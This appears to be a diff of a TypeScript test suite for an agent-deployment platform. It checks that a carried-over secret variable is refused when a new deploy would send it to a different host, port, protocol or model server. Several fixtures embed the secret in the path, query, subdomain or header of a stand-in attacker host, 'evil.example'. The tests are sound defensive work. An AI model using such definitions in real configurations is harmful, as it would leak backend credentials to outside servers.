@@ -5,18 +5,18 @@ import { type McpSite, startMcp } from '../helpers/mcp.ts';
 
 const KEY = 'a secret of the backend';
 
-/** A definition that calls a URL with a header. */
-const calling = (url: string, header = 'Bearer {{ env.KEY }}') =>
+/** A definition that sends a header to a URL. */
+const definitionFor = (url: string, header = 'Bearer {{ env.KEY }}') =>
   agent(
     `tools shop { capability find "Find" { get "${url}" { header "Authorization" "${header}" } } }`,
   );
 
-const mcp = (url: string, header = '{{ env.KEY }}') =>
+const mcpDefinition = (url: string, header = '{{ env.KEY }}') =>
   agent(`tools shop mcp ${url} { header "X-Key" "${header}" }`);
 
-const model = (settings: string) => agent(`model "m" { api_key env.KEY ${settings} }`);
+const modelDefinition = (settings: string) => agent(`model "m" { api_key env.KEY ${settings} }`);
 
-/** What a deploy after another one is refused for, where the value of KEY is carried over. */
+/** The errors of a deploy after another one that carries over the value of KEY. */
 function refusals(
   before: string,
   source: string,
@@ -35,143 +35,170 @@ const refused = (server: string, name = 'KEY') => [
 ];
 
 describe('a variable that is carried over', () => {
-  const shop = calling('https://shop.example/orders');
-  const whole = mcp('env.URL');
-  const byHost = calling('https://{{ env.HOST }}.example/{{ env.KEY }}', 'x');
+  const shop = definitionFor('https://shop.example/orders');
+  const whole = mcpDefinition('env.URL');
+  const byHost = definitionFor('https://{{ env.HOST }}.example/{{ env.KEY }}', 'x');
 
   test.each<[string, string, string, Parameters<typeof refusals>[2], string[]]>([
-    ['another path', shop, calling('https://SHOP.example:443/carts?a=b'), {}, []],
-    ['another host', shop, calling('https://evil.example/'), {}, refused('https://evil.example')],
+    ['another path', shop, definitionFor('https://SHOP.example:443/carts?a=b'), {}, []],
+    [
+      'another host',
+      shop,
+      definitionFor('https://evil.example/'),
+      {},
+      refused('https://evil.example'),
+    ],
     [
       'another port',
       shop,
-      calling('https://shop.example:8443/'),
+      definitionFor('https://shop.example:8443/'),
       {},
       refused('https://shop.example:8443'),
     ],
     [
-      'without encryption',
+      'without TLS',
       shop,
-      calling('http://shop.example/'),
+      definitionFor('http://shop.example/'),
       {},
       refused('http://shop.example'),
     ],
     [
       'in a path',
       shop,
-      calling('https://evil.example/{{ env.KEY }}', 'x'),
+      definitionFor('https://evil.example/{{ env.KEY }}', 'x'),
       {},
       refused('https://evil.example'),
     ],
     [
       'in a query',
       shop,
-      calling('https://evil.example?k={{env.KEY}}', 'x'),
+      definitionFor('https://evil.example?k={{env.KEY}}', 'x'),
       {},
       refused('https://evil.example'),
     ],
     [
       'in a host',
       shop,
-      calling('https://{{ env.KEY }}.evil.example/', 'x'),
+      definitionFor('https://{{ env.KEY }}.evil.example/', 'x'),
       {},
       refused('https://{{ env.KEY }}.evil.example'),
     ],
     [
-      'by a fragment',
+      'in a URL fragment',
       shop,
-      calling('https://evil.example#shop.example'),
+      definitionFor('https://evil.example#shop.example'),
       {},
       refused('https://evil.example'),
     ],
-    ['where none was called', agent(), shop, {}, refused('https://shop.example')],
+    ['without a previous server', agent(), shop, {}, refused('https://shop.example')],
     [
       'another value at a new host',
       shop,
-      calling('https://evil.example/', '{{ env.NEW }}'),
+      definitionFor('https://evil.example/', '{{ env.NEW }}'),
       { now: { NEW: 'new' } },
       [],
     ],
-    ['with its value', shop, calling('https://evil.example/'), { now: { KEY: 'new' } }, []],
     [
-      'from a tool to a server of tools',
+      'with its value sent again',
       shop,
-      mcp('"https://evil.example/mcp"'),
+      definitionFor('https://evil.example/'),
+      { now: { KEY: 'new' } },
+      [],
+    ],
+    [
+      'from a tool to an MCP server',
+      shop,
+      mcpDefinition('"https://evil.example/mcp"'),
       {},
       refused('https://evil.example'),
     ],
-    ['from a tool to the same server', shop, mcp('"https://shop.example/mcp"'), {}, []],
+    ['from a tool to the same server', shop, mcpDefinition('"https://shop.example/mcp"'), {}, []],
     [
-      'to another address of a variable',
+      'to another URL in a variable',
       whole,
       whole,
       { was: { URL: 'https://a.example/1' }, now: { URL: 'https://b.example/1' } },
       refused('{{ env.URL }}'),
     ],
     [
-      'to the same address of a variable',
+      'to the same host in a variable',
       whole,
       whole,
       { was: { URL: 'https://a.example/1' }, now: { URL: 'https://a.example/2' } },
       [],
     ],
     [
-      'to an address that becomes literal',
+      'to a literal URL of the same host',
       whole,
-      mcp('"https://a.example/"'),
+      mcpDefinition('"https://a.example/"'),
       { was: { URL: 'https://a.example/1' } },
       [],
     ],
     [
-      'to another host of a variable',
+      'to another host in a variable',
       byHost,
       byHost,
       { was: { HOST: 'a' }, now: { HOST: 'b' } },
       refused('https://{{ env.HOST }}.example'),
     ],
     [
-      'to a default host',
+      'to another default host',
       byHost,
       byHost.replace('env.HOST', 'env.NONE ?? \\"b\\"'),
       { was: { HOST: 'a' } },
       refused('https://{{ env.NONE }}.example'),
     ],
     [
-      'to a default host that is the same',
+      'to the same default host',
       byHost,
       byHost.replace('env.HOST', 'env.NONE ?? \\"a\\"'),
       { was: { HOST: 'a' } },
       [],
     ],
     [
-      'to another model',
-      model(''),
-      model('base_url "https://evil.example/v1"'),
+      'to another model server',
+      modelDefinition(''),
+      modelDefinition('base_url "https://evil.example/v1"'),
       {},
       refused('https://evil.example'),
     ],
-    ['to the same model', model(''), model('base_url "https://api.openai.com/v2"'), {}, []],
-    ['to the standard model', shop, model(''), {}, refused('https://api.openai.com')],
     [
-      'to another model of a variable',
-      model('base_url env.BASE'),
-      model('base_url env.BASE'),
+      'to the same model server',
+      modelDefinition(''),
+      modelDefinition('base_url "https://api.openai.com/v2"'),
+      {},
+      [],
+    ],
+    [
+      'to the default model server',
+      shop,
+      modelDefinition(''),
+      {},
+      refused('https://api.openai.com'),
+    ],
+    [
+      'to another model server in a variable',
+      modelDefinition('base_url env.BASE'),
+      modelDefinition('base_url env.BASE'),
       { was: { BASE: 'https://a.example' }, now: { BASE: 'https://b.example' } },
       refused('{{ env.BASE }}'),
     ],
     ['to Telegram', shop, agent('channel telegram { token env.KEY }'), {}, []],
     [
-      'from a source that is not valid any more',
+      'from a source that is no longer valid',
       'agentlang 4',
       shop,
       {},
       refused('https://shop.example'),
     ],
-  ])('is held to its servers: %s', (_what, before, source, variables, expected) => {
-    expect(refusals(before, source, variables)).toEqual(expected);
-  });
+  ])(
+    'may be sent only to its previous servers: %s',
+    (_what, before, source, variables, expected) => {
+      expect(refusals(before, source, variables)).toEqual(expected);
+    },
+  );
 
-  test('is named once for each server, where the source first has it', () => {
+  test('causes one error for each server, at its first use', () => {
     const get = (name: string, host: string) =>
       `capability ${name} "Get" { get "https://${host}/{{ env.KEY }}" { header "A" "{{ env.KEY }}" } }`;
     const source = agent(
@@ -186,8 +213,8 @@ describe('a variable that is carried over', () => {
     ]);
   });
 
-  test('shows no value, and nothing that looks like a secret', () => {
-    const source = calling('https://sk-abcdefghij0123456789.example/');
+  test('causes an error without values or text that resembles a secret', () => {
+    const source = definitionFor('https://sk-abcdefghij0123456789.example/');
     expect(refusals(agent(), source)).toEqual(refused('this server'));
   });
 });
@@ -214,8 +241,8 @@ describe('a deploy', () => {
     return (await response.json()) as Reply;
   };
   const env_vars = { KEY };
-  const good = calling('https://shop.example/');
-  const evil = calling('https://evil.example/');
+  const good = definitionFor('https://shop.example/');
+  const other = definitionFor('https://evil.example/');
   const activeSource = async (bot: string) => {
     const { data } = await tenant.graphql(
       'query ($id: ID!) { bot(id: $id) { activeDeployment { source } } }',
@@ -224,35 +251,35 @@ describe('a deploy', () => {
     return data.bot.activeDeployment.source;
   };
 
-  test('fails where a carried-over variable would go to a new server, until it is sent again', async () => {
+  test('fails if a carried-over variable would be sent to a new server, until its value is sent again', async () => {
     const bot = await tenant.bot(null);
     await post(`${bot}/deploy`, { agentlang: good, env_vars });
-    const failed = await post(`${bot}/deploy`, { agentlang: evil });
+    const failed = await post(`${bot}/deploy`, { agentlang: other });
     expect(failed.status).toBe('failed');
     expect(failed.parse_errors).toEqual([
-      `5:${(evil.split('\n')[4] ?? '').indexOf('env.KEY') + 1} env.KEY was not sent to https://evil.example before, send its value again to allow this [env-new-destination]`,
+      `5:${(other.split('\n')[4] ?? '').indexOf('env.KEY') + 1} env.KEY was not sent to https://evil.example before, send its value again to allow this [env-new-destination]`,
     ]);
     expect(await activeSource(bot)).toBe(good);
     expect((await post(`${bot}/deploy`, { agentlang: good })).status).toBe('deployed');
-    expect((await post(`${bot}/deploy`, { agentlang: evil, env_vars })).status).toBe('deployed');
-    expect((await post(`${bot}/deploy`, { agentlang: evil })).status).toBe('deployed');
+    expect((await post(`${bot}/deploy`, { agentlang: other, env_vars })).status).toBe('deployed');
+    expect((await post(`${bot}/deploy`, { agentlang: other })).status).toBe('deployed');
   });
 
-  test('asks no new server of tools with it', async () => {
+  test('sends no carried-over variable to a new MCP server', async () => {
     const bot = await tenant.bot(null);
     await post(`${bot}/deploy`, { agentlang: good, env_vars });
-    const source = mcp(`"${site.url}"`);
+    const source = mcpDefinition(`"${site.url}"`);
     expect((await post(`${bot}/deploy`, { agentlang: source })).status).toBe('failed');
     expect(site.requests).toEqual([]);
     expect((await post(`${bot}/deploy`, { agentlang: source, env_vars })).status).toBe('deployed');
     expect(site.requests.length).toBeGreaterThan(0);
   });
 
-  test('that ran may be rolled back to, and promoted, with the variables of then', async () => {
+  test('may be rolled back to and promoted with its own variables', async () => {
     const bot = await tenant.bot(null);
-    const first = await post(`${bot}/deploy`, { agentlang: evil, env_vars });
+    const first = await post(`${bot}/deploy`, { agentlang: other, env_vars });
     await post(`${bot}/deploy`, { agentlang: good, env_vars });
-    expect((await post(`${bot}/deploy`, { agentlang: evil })).status).toBe('failed');
+    expect((await post(`${bot}/deploy`, { agentlang: other })).status).toBe('failed');
     const back = await post(`${bot}/deployments/${first.deployment_id}/rollback`, {});
     expect(back.status).toBe('deployed');
     const staged = await post(`${bot}/deploy`, {
@@ -267,11 +294,11 @@ describe('a deploy', () => {
     expect(data.promote).toEqual({ status: 'DEPLOYED' });
   });
 
-  test('with errors of its own names them alone', async () => {
+  test('with other errors reports only those', async () => {
     const bot = await tenant.bot(null);
     await post(`${bot}/deploy`, { agentlang: good, env_vars });
     const { parse_errors } = await post(`${bot}/deploy`, {
-      agentlang: evil.replace('description', 'descripton'),
+      agentlang: other.replace('description', 'descripton'),
     });
     expect(parse_errors).toEqual([expect.stringContaining('[unknown-setting]')]);
   });
